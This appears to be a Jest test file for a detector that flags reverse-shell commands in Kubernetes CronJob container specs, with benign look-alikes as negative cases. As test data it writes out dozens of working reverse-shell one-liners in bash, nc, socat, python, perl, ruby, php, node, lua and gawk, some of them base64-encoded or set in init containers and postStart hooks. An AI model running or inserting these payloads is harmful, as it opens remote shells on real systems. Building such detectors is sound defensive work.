import { describe, expect, it } from '@jest/globals';

import type { Workload } from '../../workload/types.js';
import { reverseShell } from './reverse-shell.js';
import { C0, argv, b64, cronJob, sh } from '../../../test/support/workloads.js';

function paths(workload: Workload): string[] {
  return reverseShell.check(workload, undefined).map((evidence) => evidence.path);
}

describe('reverse-shell', () => {
  it.each<[string, Workload, string[]]>([
    ['bash -i >& /dev/tcp', sh('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), [`${C0}.command[2]`]],
    ['sh -i over /dev/udp', sh('sh -i >& /dev/udp/10.0.0.1/53 0>&1'), [`${C0}.command[2]`]],
    [
      'argv array with a separate args script',
      cronJob({
        containers: [
          {
            name: 'c',
            image: 'alpine',
            command: ['/bin/bash', '-c'],
            args: ['bash -i >& /dev/tcp/h/1 0>&1'],
          },
        ],
      }),
      [`${C0}.args[0]`],
    ],
    [
      'exec 5<>/dev/tcp read loop',
      sh('exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done'),
      [`${C0}.command[2]`],
    ],
    [
      'exec 196<> handed to sh',
      sh('0<&196;exec 196<>/dev/tcp/h/4444; sh <&196 >&196 2>&196'),
      [`${C0}.command[2]`],
    ],
    ['exec moves the shell onto the socket', sh('exec >&/dev/tcp/h/4444 0>&1; sh'), [`${C0}.command[2]`]],
    ['nc -e argv', argv('nc', '10.0.0.1', '4444', '-e', '/bin/sh'), [`${C0}.command[3]`]],
    ['/usr/bin/nc -e', argv('/usr/bin/nc', '-e', '/bin/bash', 'h', '1'), [`${C0}.command[1]`]],
    ['busybox nc -e', argv('busybox', 'nc', 'h', '1', '-e', 'sh'), [`${C0}.command[4]`]],
    ['ncat --exec', argv('ncat', '--exec', '/bin/sh', 'h', '1'), [`${C0}.command[1]`]],
    ['ncat --sh-exec=', argv('ncat', '--sh-exec=sh', 'h', '1'), [`${C0}.command[1]`]],
    ['netcat -c in a script', sh('netcat -c sh h 1'), [`${C0}.command[2]`]],
    ['nc -nve cluster', sh('nc -nve /bin/sh h 1'), [`${C0}.command[2]`]],
    ['nc -e attached', sh('nc h 1 -e/bin/sh'), [`${C0}.command[2]`]],
    ['socat exec:', sh("socat tcp-connect:h:4444 exec:'bash -li',pty,stderr,setsid"), [`${C0}.command[2]`]],
    ['socat tcp: EXEC:sh', argv('socat', 'TCP:h:1', 'EXEC:sh'), [`${C0}.command[0]`]],
    ['socat system:', argv('socat', 'SYSTEM:sh', 'TCP4:h:1'), [`${C0}.command[0]`]],
    [
      'mkfifo + nc pipeline',
      sh('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'),
      [`${C0}.command[2]`],
    ],
    ['mknod p + nc', sh('mknod /tmp/p p && /bin/sh 0</tmp/p | nc h 1 1>/tmp/p'), [`${C0}.command[2]`]],
    ['telnet | sh | telnet', sh('telnet h 1 | /bin/sh | telnet h 2'), [`${C0}.command[2]`]],
    ['openssl s_client | sh', sh('openssl s_client -quiet -connect h:443 | /bin/sh'), [`${C0}.command[2]`]],
    [
      'python3 socket one-liner',
      argv(
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")',
      ),
      [`${C0}.command[2]`],
    ],
    [
      'python (2) subprocess one-liner in sh -c',
      sh(
        `python -c 'import socket,subprocess;s=socket.socket();s.connect(("h",1));subprocess.call(["/bin/sh","-i"],stdin=s.fileno())'`,
      ),
      [`${C0}.command[2]`],
    ],
    [
      'perl IO::Socket',
      argv(
        'perl',
        '-MIO',
        '-e',
        '$c=new IO::Socket::INET(PeerAddr,"h:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
      ),
      [`${C0}.command[3]`],
    ],
    [
      'perl socket( + exec',
      sh(
        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'`,
      ),
      [`${C0}.command[2]`],
    ],
    [
      'ruby TCPSocket',
      argv(
        'ruby',
        '-rsocket',
        '-e',
        'f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
      ),
      [`${C0}.command[3]`],
    ],
    [
      'php fsockopen',
      argv('php', '-r', '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");'),
      [`${C0}.command[2]`],
    ],
    [
      'node net + child_process',
      argv(
        'node',
        '-e',
        'var n=require("net"),c=require("child_process").spawn("/bin/sh",[]);var s=new n.Socket();s.connect(1,"h",function(){s.pipe(c.stdin);c.stdout.pipe(s);});',
      ),
      [`${C0}.command[2]`],
    ],
    [
      'lua socket',
      argv(
        'lua',
        '-e',
        "local s=require('socket');local t=s.tcp();t:connect('h','1');os.execute('/bin/sh -i <&3 >&3 2>&3');",
      ),
      [`${C0}.command[2]`],
    ],
    [
      'gawk /inet/tcp',
      sh(`awk 'BEGIN {s = "/inet/tcp/0/h/1"; while(1) {s |& getline c; print c |& s}}'`),
      [`${C0}.command[2]`],
    ],
    [
      'python os.system of /dev/tcp',
      argv('python3', '-c', 'import os; os.system("bash -i >& /dev/tcp/h/1 0>&1")'),
      [`${C0}.command[2]`],
    ],
    [
      'heredoc to python',
      sh(
        'python3 <<EOF\nimport socket,os\ns=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)\nEOF\n',
      ),
      [`${C0}.command[2]`],
    ],
    [
      'decoded payload piped to bash',
      sh(`echo ${b64('bash -i >& /dev/tcp/h/4444 0>&1')} | base64 -d | bash`),
      [`${C0}.command[2]`],
    ],
    [
      'decoded python code piped to python3',
      sh(
        `echo ${b64('import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)')} | base64 -d | python3`,
      ),
      [`${C0}.command[2]`],
    ],
    [
      'init container',
      cronJob({
        initContainers: [{ name: 'i', image: 'alpine', command: ['sh', '-c', 'nc h 1 -e sh'] }],
        containers: [{ name: 'c', image: 'alpine', command: ['true'] }],
      }),
      ['spec.jobTemplate.spec.template.spec.initContainers[0].command[2]'],
    ],
    [
      'second container',
      cronJob({
        containers: [
          { name: 'a', image: 'alpine', command: ['true'] },
          { name: 'b', image: 'alpine', args: ['-c', 'bash -i >& /dev/tcp/h/1 0>&1'] },
        ],
      }),
      ['spec.jobTemplate.spec.template.spec.containers[1].args[1]'],
    ],
    [
      'postStart hook',
      cronJob({
        containers: [
          {
            name: 'c',
            image: 'alpine',
            lifecycle: { postStart: { exec: { command: ['sh', '-c', 'nc -e /bin/sh h 1'] } } },
          },
        ],
      }),
      [`${C0}.lifecycle.postStart.exec.command[2]`],
    ],
    // Benign look-alikes.
    ['wait-for with </dev/tcp', sh('until </dev/tcp/db/5432; do sleep 1; done'), []],
    ['wait-for with bash -c echo > /dev/tcp', sh("timeout 1 bash -c 'echo > /dev/tcp/db/5432'"), []],
    ['nc -z wait-for', sh('until nc -z db 5432; do sleep 2; done'), []],
    [
      'HTTP over /dev/tcp read by cat',
      sh('exec 3<>/dev/tcp/svc/80; echo -e "GET / HTTP/1.0\\n" >&3; cat <&3'),
      [],
    ],
    ['nc sending a file', sh('tar c /data | nc backup 9000'), []],
    [
      'curl | python -c json',
      sh(`curl -s http://svc/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'`),
      [],
    ],
    [
      'python socket without shell',
      argv('python3', '-c', 'import socket; socket.create_connection(("db", 5432))'),
      [],
    ],
    ['socat port forward', argv('socat', 'TCP-LISTEN:8080,fork', 'TCP:svc:80'), []],
    ['nc -c counted only with a value', argv('nc', '-c'), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(workload)).toEqual(expected);
  });

  it('keeps details short and redacted', () => {
    const [evidence] = reverseShell.check(
      sh(`bash -i >& /dev/tcp/h/1 0>&1; echo ${'A'.repeat(80)}`),
      undefined,
    );
    expect(evidence?.detail?.length).toBeLessThanOrEqual(60);
  });
});
